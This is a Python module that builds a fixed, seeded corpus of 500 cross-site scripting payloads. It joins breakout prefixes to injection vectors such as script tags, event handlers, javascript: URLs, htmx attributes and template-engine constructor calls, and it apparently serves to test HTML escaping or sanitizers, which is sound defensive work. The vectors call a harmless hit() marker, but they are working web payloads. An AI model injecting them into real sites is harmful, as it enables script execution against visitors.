"""Texts that would run if a page wrote one of them as it is: every way out of a text, an attribute, a script or an address."""

from __future__ import annotations

import html
import random
from collections.abc import Iterator

COUNT = 500
WAYS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", '" ', "' ", "`", "{{", "${", "\\")
ACTS = """
    <script>hit()</script> | <img src=x onerror=hit()> | <svg onload=hit()> | <svg/onload=hit()> | <body onload=hit()>
    <iframe srcdoc='<script>parent.hit()</script>'> | <a href=javascript:hit() autofocus>x</a> | onfocus=hit() autofocus=
    <details open ontoggle=hit()> | <math><mi xlink:href=javascript:hit()> | <input autofocus onfocus=hit()>
    <style>@import 'javascript:hit()'</style> | javascript:hit() | <marquee onstart=hit()> | <video><source onerror=hit()>
    <object data=javascript:hit()> | <div hx-on:load=hit()> | <div hx-get=/queue hx-trigger=load hx-on::after-request=hit()>
    {{constructor.constructor('hit()')()}} | <base href=//x.example> | <b style=x:expression(hit())>
    <meta http-equiv=refresh content='0;url=javascript:hit()'> | <form action=javascript:hit()><button autofocus> | ${hit()}
    \u202e<b onmouseover=hit()>
"""
TURNS = (
    str, str.upper, html.escape, lambda s: s.replace("<", "%3C"), lambda s: s.replace(" ", "/"),
    lambda s: s.replace("hit", "\\u0068it"),
)  # fmt: skip


def payloads() -> list[str]:
    """The corpus, the same each time."""
    acts = [act.strip() for line in ACTS.strip().splitlines() for act in line.split(" | ")]
    made = list(dict.fromkeys(turn(way + act) for way in WAYS for act in acts for turn in TURNS))
    return random.Random(7).sample(made, COUNT)


def batches(length: int) -> Iterator[str]:
    """The corpus in texts of at most `length` characters; what alone is longer is cut."""
    return (text for text, _ in counted(length))


def counted(length: int) -> Iterator[tuple[str, int]]:
    """The same, each text with how many payloads it holds."""
    text, held = "", 0
    for payload in payloads():
        if text and len(text) + 1 + len(payload) > length:
            yield text, held
            text, held = "", 0
        text, held = f"{text} {payload}".strip()[:length].strip(), held + 1
    yield text, held
